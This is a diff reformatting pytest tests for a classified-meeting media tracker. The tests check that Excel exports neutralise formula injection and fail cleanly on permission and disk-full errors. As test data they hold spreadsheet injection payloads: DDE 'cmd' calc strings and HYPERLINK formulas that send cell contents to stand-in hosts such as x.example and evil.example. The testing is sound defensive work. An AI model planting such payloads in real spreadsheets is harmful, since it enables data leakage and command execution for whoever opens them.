@@ -40,8 +40,14 @@ from tests.integration.cli_helpers import CODE, ROOT
 
 T0 = datetime(2026, 12, 8, 0, 30, tzinfo=UTC)
 # What OWASP lists for formula injection, and the classics from the issue.
-PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+]
 _n = iter(range(10_000))
 
 
@@ -55,25 +61,105 @@ def _hostile_meeting(path: Path) -> dict[str, str]:
     """A workbook whose every text field starts with = + - or @ (as text cells: the import
     refuses formula cells), and the values it holds."""
     v = {
-        "code": "=M1", "title": PAYLOADS[1], "venue": PAYLOADS[2], "organizer": PAYLOADS[3], "officer": "@赵保密",
-        "a_code": "=A1", "a_name": PAYLOADS[0], "a_unit": PAYLOADS[4], "a_title": hostile("职务"), "a_pass": "+P1",
-        "b_code": "-A2", "b_name": hostile("李四"), "b_unit": hostile("单位"), "b_title": hostile("职务"), "b_pass": "@P2",
-        "d_no": "-D1", "d_title": PAYLOADS[5], "e_no": "@D2", "e_title": hostile("文件"),
+        "code": "=M1",
+        "title": PAYLOADS[1],
+        "venue": PAYLOADS[2],
+        "organizer": PAYLOADS[3],
+        "officer": "@赵保密",
+        "a_code": "=A1",
+        "a_name": PAYLOADS[0],
+        "a_unit": PAYLOADS[4],
+        "a_title": hostile("职务"),
+        "a_pass": "+P1",
+        "b_code": "-A2",
+        "b_name": hostile("李四"),
+        "b_unit": hostile("单位"),
+        "b_title": hostile("职务"),
+        "b_pass": "@P2",
+        "d_no": "-D1",
+        "d_title": PAYLOADS[5],
+        "e_no": "@D2",
+        "e_title": hostile("文件"),
     }
-    write_xlsx(path, [
-        RawSheet("会议", lambda: _table([MEETING_HEAD, [v["code"], v["title"], "机密", v["venue"], None, None, v["organizer"], v["officer"], "否"]])),
-        RawSheet("参会人员", lambda: _table([PEOPLE_HEAD,
-                                             [v["a_code"], v["a_name"], v["a_unit"], v["a_title"], "是", "机密", v["a_pass"], "05000000000001"],
-                                             [v["b_code"], v["b_name"], v["b_unit"], v["b_title"], "否", "机密", v["b_pass"], "05000000000002"]])),
-        RawSheet("文件", lambda: _table([DOCS_HEAD, [v["d_no"], v["d_title"], "机密", 3, "是", "是"], [v["e_no"], v["e_title"], "秘密", 2, "否", "否"]])),
-        RawSheet("标签绑定", lambda: _table([TAGS_HEAD, *([v["d_no"], k, f"0500000000010{k}"] for k in (1, 2, 3)),
-                                             *([v["e_no"], k, f"0500000000020{k}"] for k in (1, 2))])),
-    ])
+    write_xlsx(
+        path,
+        [
+            RawSheet(
+                "会议",
+                lambda: _table(
+                    [
+                        MEETING_HEAD,
+                        [
+                            v["code"],
+                            v["title"],
+                            "机密",
+                            v["venue"],
+                            None,
+                            None,
+                            v["organizer"],
+                            v["officer"],
+                            "否",
+                        ],
+                    ]
+                ),
+            ),
+            RawSheet(
+                "参会人员",
+                lambda: _table(
+                    [
+                        PEOPLE_HEAD,
+                        [
+                            v["a_code"],
+                            v["a_name"],
+                            v["a_unit"],
+                            v["a_title"],
+                            "是",
+                            "机密",
+                            v["a_pass"],
+                            "05000000000001",
+                        ],
+                        [
+                            v["b_code"],
+                            v["b_name"],
+                            v["b_unit"],
+                            v["b_title"],
+                            "否",
+                            "机密",
+                            v["b_pass"],
+                            "05000000000002",
+                        ],
+                    ]
+                ),
+            ),
+            RawSheet(
+                "文件",
+                lambda: _table(
+                    [
+                        DOCS_HEAD,
+                        [v["d_no"], v["d_title"], "机密", 3, "是", "是"],
+                        [v["e_no"], v["e_title"], "秘密", 2, "否", "否"],
+                    ]
+                ),
+            ),
+            RawSheet(
+                "标签绑定",
+                lambda: _table(
+                    [
+                        TAGS_HEAD,
+                        *([v["d_no"], k, f"0500000000010{k}"] for k in (1, 2, 3)),
+                        *([v["e_no"], k, f"0500000000020{k}"] for k in (1, 2)),
+                    ]
+                ),
+            ),
+        ],
+    )
     return v
 
 
 @pytest.fixture
-def hostile_export(session: Session, key: bytes, tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
+def hostile_export(
+    session: Session, key: bytes, tmp_path: Path
+) -> tuple[Path, Path, dict[str, str]]:
     src = tmp_path / "hostile.xlsx"
     v = _hostile_meeting(src)
     import_workbook(session=session, key=key, path=src, operator=hostile("导入"), now=T0)
@@ -84,24 +170,55 @@ def hostile_export(session: Session, key: bytes, tmp_path: Path) -> tuple[Path, 
         op = kw.pop("operator", None) or hostile("操作员")
         station = hostile("工作台")
         v[f"op{op}"], v[f"st{station}"] = op, station
-        record_tap(session=session, key=key, meeting_code=v["code"], uid=uid, mode=mode, station=station, operator=op,
-                   now=T0 + timedelta(minutes=next(minute)), **kw)
+        record_tap(
+            session=session,
+            key=key,
+            meeting_code=v["code"],
+            uid=uid,
+            mode=mode,
+            station=station,
+            operator=op,
+            now=T0 + timedelta(minutes=next(minute)),
+            **kw,
+        )
         session.commit()
 
     tap("05000000000001", Mode.ISSUE)  # A's pass
     tap("05000000000101", Mode.ISSUE, attendee_code=v["a_code"])
     tap("05000000000101", Mode.CARRY_OUT, operator=v["officer"])
-    v["note"] = "=HYPERLINK(\"http://evil.example\",\"遗失说明\")"
+    v["note"] = '=HYPERLINK("http://evil.example","遗失说明")'
     tap("05000000000201", Mode.LOST, operator=v["officer"], note=v["note"])
     v["k_no"], v["k_unit"], v["k_recipient"] = "=K1", "+cmd|' /C calc'!A0", "@钱七"
-    open_consignment(session=session, key=key, meeting_code=v["code"], number=v["k_no"], unit=v["k_unit"],
-                     recipient=v["k_recipient"], operator=hostile("经办"), station=hostile("台"), now=T0 + timedelta(hours=1))
+    open_consignment(
+        session=session,
+        key=key,
+        meeting_code=v["code"],
+        number=v["k_no"],
+        unit=v["k_unit"],
+        recipient=v["k_recipient"],
+        operator=hostile("经办"),
+        station=hostile("台"),
+        now=T0 + timedelta(hours=1),
+    )
     session.commit()
     tap("05000000000103", Mode.DISPATCH, consignment_no=v["k_no"])
     tap("FFFFFFFFFFFFFF", Mode.ISSUE)  # an unknown tag: a refusal in the log
     out, carry = tmp_path / "export.xlsx", tmp_path / "carry.xlsx"
-    export_meeting(session=session, key=key, meeting_code=v["code"], path=out, operator=hostile("导出"), now=T0 + timedelta(hours=2))
-    export_carry_list(session=session, meeting_code=v["code"], attendee_code=v["a_code"], path=carry, now=T0 + timedelta(hours=2))
+    export_meeting(
+        session=session,
+        key=key,
+        meeting_code=v["code"],
+        path=out,
+        operator=hostile("导出"),
+        now=T0 + timedelta(hours=2),
+    )
+    export_carry_list(
+        session=session,
+        meeting_code=v["code"],
+        attendee_code=v["a_code"],
+        path=carry,
+        now=T0 + timedelta(hours=2),
+    )
     return out, carry, v
 
 
@@ -113,28 +230,52 @@ def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
 TRIGGERS = ("=", "+", "-", "@")
 
 
-def test_no_formula_cell_and_every_text_as_typed(hostile_export: tuple[Path, Path, dict[str, str]]) -> None:
+def test_no_formula_cell_and_every_text_as_typed(
+    hostile_export: tuple[Path, Path, dict[str, str]],
+) -> None:
     out, carry, typed = hostile_export
     for path in (out, carry):
         cells = _cells(path)
         formulas = [c.coordinate for c in cells if c.data_type == "f"]
         assert formulas == [], f"{path.name}: formula cells {formulas}"
-        with zipfile.ZipFile(path) as z:  # and none in the file itself, whatever a reader makes of it
+        with zipfile.ZipFile(
+            path
+        ) as z:  # and none in the file itself, whatever a reader makes of it
             for name in z.namelist():
                 if name.startswith("xl/worksheets/"):
                     assert re.search(rb"<f[ >]", z.read(name)) is None, name
         risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
         assert risky, "the meeting's texts must be in the workbook"
         for c in risky:
-            assert c.data_type == "s" and c.quotePrefix, f"{path.name} {c.coordinate}={c.value!r} is not marked as text"
+            assert c.data_type == "s" and c.quotePrefix, (
+                f"{path.name} {c.coordinate}={c.value!r} is not marked as text"
+            )
     shown = {c.value for c in _cells(out) if isinstance(c.value, str)}
-    for name in ("title", "venue", "organizer", "officer", "a_name", "a_unit", "b_name", "b_unit", "d_title",
-                 "e_title", "k_unit", "k_recipient", "code", "note"):
+    for name in (
+        "title",
+        "venue",
+        "organizer",
+        "officer",
+        "a_name",
+        "a_unit",
+        "b_name",
+        "b_unit",
+        "d_title",
+        "e_title",
+        "k_unit",
+        "k_recipient",
+        "code",
+        "note",
+    ):
         assert any(typed[name] in s for s in shown), f"{name} {typed[name]!r} not visible as typed"
     for key, value in typed.items():
         if key.startswith(("op", "st")) and key not in ("officer",):
             assert value in shown, f"{key} {value!r} not visible as typed"
-    assert {c.value for c in _cells(carry) if isinstance(c.value, str)} >= {typed["a_code"], typed["a_name"], typed["d_title"]}
+    assert {c.value for c in _cells(carry) if isinstance(c.value, str)} >= {
+        typed["a_code"],
+        typed["a_name"],
+        typed["d_title"],
+    }
 
 
 def test_text_cell_neutralises_what_cannot_enter_any_more() -> None:
@@ -174,22 +315,47 @@ def _unprivileged() -> list[str]:
 
 @pytest.fixture
 def sample_home(tmp_path: Path) -> dict[str, str]:
-    env = {**os.environ, "CARRIER_TRACKER_HOME": str(tmp_path / "home"), "CARRIER_TRACKER_DB": f"sqlite:///{tmp_path / 'ct.db'}",
-           "CARRIER_TRACKER_OPERATOR": "孙文管", "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path / "tmp")}
+    env = {
+        **os.environ,
+        "CARRIER_TRACKER_HOME": str(tmp_path / "home"),
+        "CARRIER_TRACKER_DB": f"sqlite:///{tmp_path / 'ct.db'}",
+        "CARRIER_TRACKER_OPERATOR": "孙文管",
+        "PYTHONPATH": str(ROOT),
+        "TMPDIR": str(tmp_path / "tmp"),
+    }
     (tmp_path / "tmp").mkdir()
     for argv in (["init"], ["import", str(SAMPLE)]):
-        assert subprocess.run([sys.executable, "-m", "carrier_tracker.cli", *argv], env=env, capture_output=True).returncode == 0
+        assert (
+            subprocess.run(
+                [sys.executable, "-m", "carrier_tracker.cli", *argv], env=env, capture_output=True
+            ).returncode
+            == 0
+        )
     return env
 
 
-def _export(env: dict[str, str], out: Path, prefix: list[str], preexec: Callable[[], None] | None = None) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([*prefix, sys.executable, "-m", "carrier_tracker.cli", "export", CODE, "-o", str(out)],
-                          env=env, capture_output=True, text=True, timeout=120, preexec_fn=preexec)
+def _export(
+    env: dict[str, str], out: Path, prefix: list[str], preexec: Callable[[], None] | None = None
+) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [*prefix, sys.executable, "-m", "carrier_tracker.cli", "export", CODE, "-o", str(out)],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        preexec_fn=preexec,
+    )
 
 
-def _assert_clean_failure(p: subprocess.CompletedProcess[str], out: Path, reason: str, tmpdir: Path) -> None:
-    lines = [line for line in p.stderr.splitlines() if not line.startswith(("操作日志：", "登记表："))]
-    assert (p.returncode, lines) == (2, [f"错误：无法写入 {out}：{reason}（未留下任何文件）"]), p.stderr
+def _assert_clean_failure(
+    p: subprocess.CompletedProcess[str], out: Path, reason: str, tmpdir: Path
+) -> None:
+    lines = [
+        line for line in p.stderr.splitlines() if not line.startswith(("操作日志：", "登记表："))
+    ]
+    assert (p.returncode, lines) == (2, [f"错误：无法写入 {out}：{reason}（未留下任何文件）"]), (
+        p.stderr
+    )
     assert "Exception ignored" not in p.stderr and "Traceback" not in p.stderr
     assert sorted(out.parent.iterdir()) == [], "no X.xlsx, no X.xlsx.tmp"
     assert sorted(tmpdir.iterdir()) == [], "openpyxl's temporary sheets are removed too"
@@ -208,6 +374,7 @@ def test_permission_denied(sample_home: dict[str, str], tmp_path: Path) -> None:
 def test_disk_full(sample_home: dict[str, str], tmp_path: Path) -> None:
     """A disk that fills up mid-export, played by a file-size limit (RLIMIT_FSIZE: the kernel
     fails the write with EFBIG where a full disk gives ENOSPC; the same path handles both)."""
+
     def limit() -> None:
         signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
         resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))
@@ -218,11 +385,17 @@ def test_disk_full(sample_home: dict[str, str], tmp_path: Path) -> None:
     _assert_clean_failure(p, out_dir / "登记.xlsx", "文件过大（超出系统限制）", tmp_path / "tmp")
 
 
-def test_export_to_a_good_place_after_a_failure_works(sample_home: dict[str, str], tmp_path: Path,
-                                                      monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+def test_export_to_a_good_place_after_a_failure_works(
+    sample_home: dict[str, str],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     for k in ("CARRIER_TRACKER_HOME", "CARRIER_TRACKER_DB", "CARRIER_TRACKER_OPERATOR"):
         monkeypatch.setenv(k, sample_home[k])
     out = tmp_path / "ok.xlsx"
     assert main(["export", CODE, "-o", str(out)]) == 0
-    assert out.stat().st_mode & 0o777 == 0o600  # the register of a classified meeting: its owner's only
+    assert (
+        out.stat().st_mode & 0o777 == 0o600
+    )  # the register of a classified meeting: its owner's only
     assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
